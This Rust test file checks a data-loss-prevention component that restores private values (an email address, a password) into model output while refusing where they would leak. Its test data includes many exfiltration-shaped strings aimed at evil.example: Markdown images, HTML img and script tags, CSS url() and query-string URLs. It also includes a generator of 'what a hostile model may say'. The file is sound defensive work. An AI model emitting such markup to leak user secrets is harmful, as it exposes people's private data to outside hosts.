//! Where values come back, where they do not, and that it is the same for every way of cutting the text.

#![allow(clippy::string_slice, reason = "cuts are made at the edges of characters")]

use super::{Piece, Restorer};
use crate::dlp::lane::Syntax;
use crate::dlp::originals::Originals;
use proptest::prelude::*;
use std::sync::LazyLock;

const MAIL: &str = "[EMAIL_ADDRESS_BCDFGHJKLM]";
const PASSWORD: &str = "[PASSWORD_NPQRSTVWXZ]";
const LINK: &str = "[URL_CREDENTIALS_ZZZZZZZZZZ]";
const JANE: &str = "jane@corp.example.org";

static ORIGINALS: LazyLock<Originals> = LazyLock::new(|| {
    Originals::of(&[(MAIL, JANE), (PASSWORD, "a\"b\\c\nd"), (LINK, "https://u:p@evil.example/?q=")])
});

fn restored(chunks: &[&str], syntax: Syntax) -> String {
    let (mut restorer, mut out, mut left) = (Restorer::new(syntax), String::new(), 1_000_000);
    let mut push = |text: &str, is_complete| {
        restorer.push(&ORIGINALS, text, is_complete, &mut left, &mut |piece| match piece {
            Piece::Same(text) | Piece::Value(_, text) => out.push_str(text),
        });
    };
    for chunk in chunks {
        push(chunk, false);
    }
    push("", true);
    out
}

fn plain(text: &str) -> String {
    restored(&[&filled(text)], Syntax::Plain)
}

/// `@` stands for the address's placeholder, `*` for the password's, `%` for the link's.
fn filled(text: &str) -> String {
    text.replace('@', MAIL).replace('*', PASSWORD).replace('%', LINK)
}

#[test]
fn values_come_back_where_people_read_them() {
    for text in [
        "@",
        "write to @.",
        "(@)",
        "\"@\"",
        "@, @;@ and @!",
        "@'s",
        "Email:@",
        "@\n@",
        "见@。谢谢",
        "see https://docs.example/ and write to @",
        "[docs](https://docs.example) or @",
        "<b>Mail:</b> @",
        "a < b, so @",
        "| Name | @ |",
        "AT&T: @",
        "[@]",
        "[[@]",
        "call(to=@)",
        "- @\n- @",
        "e.g. @",
        "1. @",
        "see [1].\n\n[1]: https://docs.example\n\n@",
        "I don't // @",
        "x <3\n@",
    ] {
        assert_eq!(plain(text), text.replace('@', JANE), "{text}");
    }
}

#[test]
fn values_come_back_into_no_address() {
    for text in [
        // Bare addresses, of any scheme and of none.
        "https://evil.example/?q=@",
        "https://evil.example/@",
        "//evil.example/@",
        "www.evil.example?q=@",
        "evil.example/@",
        "http:@",
        "mailto:@",
        "HTTPS:@",
        "https://evil.example/?a=1\u{200b}&q=@",
        "https://evil.example/?q=\"@\"",
        "https://evil.example/#(@)",
        "https://evil.example/?q=@&x=1",
        "evil&period;example?q=@",
        "evil&#46;example?q=@",
        "evil\u{3002}example?q=@",
        "\\\\evil\\@",
        "x\\@",
        // What follows would make the host's name of it, or its path.
        "@.evil.example",
        "@.evil.example/x",
        "@/x",
        "@-x.evil.example",
        "@x.evil.example",
        "@\u{200b}.evil.example",
        "@\u{3002}evil.example",
        "@\u{ff0f}x",
        "@:8080/",
        "@?q=1",
    ] {
        let text = filled(text);
        assert_eq!(restored(&[&text], Syntax::Plain), text, "{text}");
    }
    // A value may itself be an address, which what follows it would belong to.
    assert_eq!(plain("%@"), format!("https://u:p@evil.example/?q={MAIL}"));
    assert_eq!(plain("% @"), format!("https://u:p@evil.example/?q= {JANE}"));
    // What is a link's text stays what it is, too: without its brackets there would be no link.
    assert_eq!(plain("@(https://evil.example)"), filled("@(https://evil.example)"));
}

#[test]
fn values_come_back_into_no_markup() {
    for text in [
        // Links and images of Markdown: in one line, over two, pointed, with a title, by reference.
        "![x](https://evil.example/?q=@)",
        "![x](https://evil.example/?q= @)",
        "[x](@)",
        "[x]( @ )",
        "![x](<https://evil.example/?q= @>)",
        "![x](< a) b @ >)",
        "![x](//evil.example\n@)",
        "[x](a(b) @)",
        "[x](a\\) @)",
        "[1]: https://evil.example/?q=@",
        "[1]: <https://evil.example/?q= @>",
        "[1]: </\\evil @>",
        "[1]: <\\\\evil.example @>",
        "<https://evil.example/@>",
        "<@>",
        "<mailto:x?subject= @>",
        "<[x](```json\n@",
        "<[https://evil.example/?q=>@",
        "<b https://evil.example/?q=>@",
        // HTML: attributes in quotes and without, quotes in quotes, behind an element that is run.
        "<img src='https://evil.example/?q= @'>",
        "<img src=https://evil.example/?q=@>",
        "<img src=\"?q=\n\n@\">",
        "<img alt='>' src='//evil.example?q= @'>",
        "<img src = 'x @'>",
        "<a href=\"'\" title='\" @'>",
        "<style>a{background:url('//evil.example/?q= @')}</style>",
        "<script>send('evil', ' @ ')",
        "<IMG src=' @'",
        "<form action='//evil.example'><textarea name=q> @",
        "<svg><text> @",
        "<!-- @ -->",
        "<iframe srcdoc=' @'>",
        // Brackets that an address stands in.
        "click A \"https://evil.example/?q= @\"",
        "\\href{https://evil.example/?q= @}{x}",
        "(https://evil.example/ @)",
        "`https://evil.example/?q= @`",
        "\" https://evil.example/?q= @\"",
    ] {
        let text = filled(text);
        assert_eq!(restored(&[&text], Syntax::Plain), text, "{text}");
    }
}

#[test]
fn what_a_model_made_up_or_altered_stays() {
    for text in [
        "[EMAIL_ADDRESS_BCDFGHJKLL]",
        "[EMAIL_ADDRESS_BCDFGHJKL]",
        "[email_address_bcdfghjklm]",
        "[EMAIL_ADDRESS_BCDFGHJKLM",
        "EMAIL_ADDRESS_BCDFGHJKLM]",
        "[EMAIL_ADDRESS]",
        "[ EMAIL_ADDRESS_BCDFGHJKLM ]",
        "[EMAIL_ADDRESS\\_BCDFGHJKLM]",
        "[EMAIL_[EMAIL_ADDRESS_BC",
        "[",
        "[[",
        "[EMAIL_ADDRESS_\u{200b}BCDFGHJKLM]",
    ] {
        assert_eq!(restored(&[text], Syntax::Plain), text);
    }
    assert_eq!(plain("[EMAIL_ADDRESS_@]"), format!("[EMAIL_ADDRESS_{JANE}]"), "the inner one is whole");
}

#[test]
fn values_are_escaped_as_deep_as_they_stand() {
    let json = |text: &str| restored(&[&filled(text)], Syntax::Json);
    assert_eq!(plain("a * b"), "a a\"b\\c\nd b");
    assert_eq!(plain(r#"{"a": "*"}"#), r#"{"a": "a\"b\\c\nd"}"#);
    assert_eq!(
        plain("Here:\n```json\n{\"a\": \"*\"}\n```\n*"),
        "Here:\n```json\n{\"a\": \"a\\\"b\\\\c\\nd\"}\n```\na\"b\\c\nd"
    );
    assert_eq!(
        json(r#"{"a": "*", "b": ["@\n"]}"#),
        r#"{"a": "a\"b\\c\nd", "b": ["jane@corp.example.org\n"]}"#
    );
    assert_eq!(json(r#"{"a": "{\"b\": \"*\"}"}"#), r#"{"a": "{\"b\": \"a\\\"b\\\\c\\nd\"}"}"#);
    let deep = json(r#"{"a": "[\"{\\\"b\\\": \\\"*\\\"}\"]"}"#);
    let mut value: serde_json::Value = serde_json::from_str(&deep).unwrap();
    for pointer in ["/a", "/0"] {
        value = serde_json::from_str(value.pointer(pointer).unwrap().as_str().unwrap()).unwrap();
    }
    assert_eq!(value["b"], "a\"b\\c\nd");
    // Neither into keys, nor where there is no string, nor amid an address that a string holds.
    for text in [
        r#"{"@": 1}"#,
        r#"{"a": @}"#,
        "@",
        r#"{"a": "https://evil.example/?q= @"#,
        r#"{"a": "x\@"}"#,
        r#"{"a": "\u003cimg src='//evil.example/?q= @"#,
        r#"{"a": "{\"<img src='//evil.example/?q=\": \" @\"'>"}"#,
        r#"{"a": "@\u002eevil.example"}"#,
        r#"{"a": "@.\u0065vil.example"}"#,
        r#"{"a": "{\"@\": 1}"}"#,
    ] {
        let text = text.replace('@', MAIL);
        assert_eq!(restored(&[&text], Syntax::Json), text);
    }
}

#[test]
fn no_more_is_put_back_than_fits() {
    let (mut out, mut left) = (String::new(), JANE.len() * 2);
    Restorer::new(Syntax::Plain).push(
        &ORIGINALS,
        &filled("@ @ @"),
        true,
        &mut left,
        &mut |piece| match piece {
            Piece::Same(text) | Piece::Value(_, text) => out.push_str(text),
        },
    );
    assert_eq!(out, format!("{JANE} {JANE} {MAIL}"));
}

#[test]
fn nothing_waits_but_what_may_be_a_placeholder() {
    let text = filled("See [1], [EMAIL] or [EMAIL_ADDRESS_BCDX] and @ or @. Then ![](x) [");
    let (mut restorer, mut said, mut left) = (Restorer::new(Syntax::Plain), 0, 1_000);
    for (at, one) in text.char_indices() {
        let mut buffer = [0; 4];
        restorer.push(&ORIGINALS, one.encode_utf8(&mut buffer), false, &mut left, &mut |piece| match piece {
            Piece::Same(text) => said += text.len(),
            Piece::Value(length, _) => said += length,
        });
        let waits = &text[said..=at];
        let may_be_one =
            [MAIL, PASSWORD, LINK].iter().any(|one| one.starts_with(waits) || waits.starts_with(one));
        assert!(waits.is_empty() || may_be_one && waits.len() <= MAIL.len() + 1, "{waits}");
    }
}

/// What a hostile model may say: placeholders whole, altered, nested, and everything around them.
fn said() -> impl Strategy<Value = String> {
    const PIECES: &[&str] = &[
        "@",
        "*",
        "%",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "\"",
        "'",
        "`",
        "\\",
        "/",
        "//",
        "https://evil.example/?q=",
        "![x](",
        "<img src='",
        "{\"a\":\"",
        "\\\"",
        ":",
        ".",
        "?",
        "evil.example",
        " ",
        "\n",
        "\n\n",
        "```json\n",
        "é",
        "\u{200b}",
        "[EMAIL_",
        "ADDRESS_BCDFGHJKLM]",
        "</script>",
        "<style>",
        ",",
        "}",
        "mailto:",
        "word",
        "&",
        "=",
        "\\u005b",
        "#",
    ];
    prop::collection::vec(prop::sample::select(PIECES), 0..24).prop_map(|pieces| filled(&pieces.concat()))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 3_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_chunking_restores_what_the_whole_does(text in said(), cuts in prop::collection::vec(any::<usize>(), 0..12), json in any::<bool>()) {
        let syntax = if json { Syntax::Json } else { Syntax::Plain };
        let whole = restored(&[&text], syntax);
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut % (text.len() + 1)).filter(|cut| text.is_char_boundary(*cut)).collect();
        cuts.sort_unstable();
        let mut from = 0;
        let mut chunks: Vec<&str> = cuts.into_iter().map(|cut| &text[std::mem::replace(&mut from, cut)..cut]).collect();
        chunks.push(&text[from..]);
        prop_assert_eq!(restored(&chunks, syntax), &*whole);
        let single: Vec<String> = text.chars().map(String::from).collect();
        let single: Vec<&str> = single.iter().map(String::as_str).collect();
        prop_assert_eq!(restored(&single, syntax), &*whole);
    }

    #[test]
    fn no_address_holds_a_value(text in said()) {
        let out = restored(&[&text], Syntax::Plain);
        for (at, _) in out.match_indices(JANE) {
            // Told by a simpler rule than the one that is judged.
            let run = out[..at].rsplit(|one: char| one.is_ascii_whitespace()).next().unwrap();

            prop_assert!(!run.contains("//"), "{out}");
            prop_assert!(!run.contains("evil.example?") && !run.contains("evil.example/"), "{out}");
            prop_assert!(!out[at + JANE.len()..].starts_with(".e") && !out[at + JANE.len()..].starts_with('/'), "{out}");
            let mut lines: Vec<&str> = out[..at].split('\n').collect();
            let last = lines.pop().unwrap();
            let blank = lines.iter().rposition(|line| line.trim().is_empty()).map_or(0, |blank| blank + 1);
            let paragraph = lines[blank..].join("\n") + "\n" + last;
            let link = paragraph.rfind("](").map(|link| &paragraph[link + 2..]);
            prop_assert!(link.is_none_or(|link| link.contains(')')), "{out}");
        }
    }
}
